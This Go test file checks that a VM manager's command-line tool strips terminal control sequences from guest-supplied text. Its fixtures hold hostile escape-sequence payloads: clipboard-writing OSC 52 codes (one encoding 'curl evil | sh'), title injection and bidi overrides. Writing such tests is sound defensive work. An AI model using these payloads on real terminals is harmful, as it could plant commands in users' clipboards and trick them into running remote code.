package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/bangerdev/banger/api"
	"github.com/bangerdev/banger/internal/rpc"
	"github.com/bangerdev/banger/internal/termsafe"
)

// hostile strings a guest controls: its process names, the addresses it
// reports, the text of its errors and its console.
const (
	clipboardWrite = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
	cursorUp       = "\x1b[1A\x1b[2K"
	hostileProcess = "ngin" + clipboardWrite + "x" + cursorUp + "\u202e\u009b"
	hostileAddress = "0.0.0.0\r\x1b]0;pwned\x07"
	hostileError   = "agent refused: \x1b[31mboom\x1b]52;c;eA==\x1b\\\n"
	hostileLog     = "boot ok\r\n\x1b[2J\x1b[H" + clipboardWrite + "login: \x1b]0;title\x07\u202eevil\n"
)

// fakeDaemon serves canned guest data on BANGER_HOME's socket, as a bangerd
// relaying a hostile guest would.
func fakeDaemon(t *testing.T) {
	t.Helper()
	home := fakeBangerdHome(t, "bgout")
	m := rpc.NewMux()
	rpc.Handle(m, api.MethodPing, func(ctx context.Context, _ struct{}) (string, error) { return "pong", nil })
	rpc.Handle(m, "vm.ports", func(ctx context.Context, p api.VMRef) (api.PortsResult, error) {
		return api.PortsResult{VM: p.VM, Ports: []api.Port{{Proto: "tcp", Address: hostileAddress, Port: 80, PID: 7, Process: hostileProcess}}}, nil
	})
	rpc.Handle(m, "vm.stats", func(ctx context.Context, p api.StatsParams) (api.StatsResult, error) {
		s := &api.StatsSample{Time: time.Now(), HostError: hostileError, GuestError: hostileError}
		return api.StatsResult{VM: p.VM, Latest: s, Kept: 1, IntervalSeconds: 2}, nil
	})
	rpc.Handle(m, "vm.logs", func(ctx context.Context, p api.LogsParams) (api.LogsResult, error) {
		return api.LogsResult{Data: hostileLog[p.Offset:], NextOffset: int64(len(hostileLog))}, nil
	})
	rpc.Handle(m, api.MethodPoolList, func(ctx context.Context, _ struct{}) ([]*api.Pool, error) {
		// a refill that failed quotes the guest's console in the note
		return []*api.Pool{{PoolSpec: api.PoolSpec{Image: "debian", Kernel: "debian", VCPUs: 1, MemoryMiB: 256, DiskMiB: 256, Size: 1},
			Note: "refill failed: " + hostileError}}, nil
	})
	rpc.Handle(m, "vm.refuse", func(ctx context.Context, p api.VMRef) (struct{}, error) {
		return struct{}{}, rpc.Errorf(rpc.CodeUnavailable, "list the listening ports of %s: %s", p.VM, hostileError)
	})
	serveFakeBangerd(t, home, m)
}

func runCLI(t *testing.T, args ...string) (string, string, int) {
	t.Helper()
	var out, errOut bytes.Buffer
	a := &App{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &errOut}
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	code := a.Run(ctx, args)
	return out.String(), errOut.String(), code
}

// terminalSafe fails if s holds anything a terminal acts on.
func terminalSafe(t *testing.T, what, s string) {
	t.Helper()
	for _, r := range s {
		if r != '\n' && r != '\t' && !termsafe.Printable(r) {
			t.Errorf("%s: %U reaches the terminal in %q", what, r, s)
			return
		}
	}
}

func TestGuestStringsReachTheTerminalStripped(t *testing.T) {
	fakeDaemon(t)

	out, errOut, code := runCLI(t, "ports", "vm1")
	if code != 0 {
		t.Fatalf("ports: %d %s", code, errOut)
	}
	terminalSafe(t, "ports", out)
	if !strings.Contains(out, "nginx") || !strings.Contains(out, "0.0.0.0") || strings.Count(out, "\n") != 2 {
		t.Errorf("ports table lost the harmless text or gained rows:\n%s", out)
	}

	out, errOut, code = runCLI(t, "stats", "vm1")
	if code != 0 {
		t.Fatalf("stats: %d %s", code, errOut)
	}
	terminalSafe(t, "stats", out)
	if !strings.Contains(out, "agent refused: boom") {
		t.Errorf("stats lost the error text:\n%s", out)
	}

	out, errOut, code = runCLI(t, "pool", "ls")
	if code != 0 {
		t.Fatalf("pool ls: %d %s", code, errOut)
	}
	terminalSafe(t, "pool ls", out)
	if !strings.Contains(out, "refill failed: agent refused: boom") || strings.Count(out, "\n") != 2 {
		t.Errorf("pool ls lost the note's text or gained rows:\n%s", out)
	}

	out, errOut, code = runCLI(t, "logs", "vm1")
	if code != 0 {
		t.Fatalf("logs: %d %s", code, errOut)
	}
	terminalSafe(t, "logs", out)
	if out != "boot ok\nlogin: evil\n" {
		t.Errorf("logs = %q", out)
	}
}

// TestLogsRawKeepsControlSequences: --raw is the user's explicit choice.
func TestLogsRawKeepsControlSequences(t *testing.T) {
	fakeDaemon(t)
	out, errOut, code := runCLI(t, "logs", "vm1", "--raw")
	if code != 0 || out != hostileLog {
		t.Fatalf("logs --raw: %d %q (stderr %s)", code, out, errOut)
	}
}

// TestJSONOutputEscapesButKeepsGuestStrings: -o json carries the exact
// value, with the C1 and bidi characters written as \u escapes.
func TestJSONOutputEscapesButKeepsGuestStrings(t *testing.T) {
	fakeDaemon(t)
	out, errOut, code := runCLI(t, "-o", "json", "ports", "vm1")
	if code != 0 {
		t.Fatalf("ports -o json: %d %s", code, errOut)
	}
	terminalSafe(t, "ports -o json", out)
	var res api.PortsResult
	if err := json.Unmarshal([]byte(out), &res); err != nil {
		t.Fatal(err)
	}
	if len(res.Ports) != 1 || res.Ports[0].Process != hostileProcess || res.Ports[0].Address != hostileAddress {
		t.Fatalf("json changed the guest's values: %+v", res.Ports)
	}
}

// TestErrorsQuotingTheGuestAreStripped: an RPC error that quotes the guest
// reaches stderr without its control sequences.
func TestErrorsQuotingTheGuestAreStripped(t *testing.T) {
	fakeDaemon(t)
	a := &App{Stdin: strings.NewReader(""), Stdout: &bytes.Buffer{}, Stderr: &bytes.Buffer{}}
	err := a.call(context.Background(), "vm.refuse", api.VMRef{VM: "vm1"}, nil)
	if err == nil {
		t.Fatal("no error")
	}
	var errOut bytes.Buffer
	a.Stderr = &errOut
	// what Run prints for an error
	a.printError(err)
	terminalSafe(t, "error", errOut.String())
	if !strings.Contains(errOut.String(), "agent refused: boom") {
		t.Fatalf("error text lost: %q", errOut.String())
	}
}
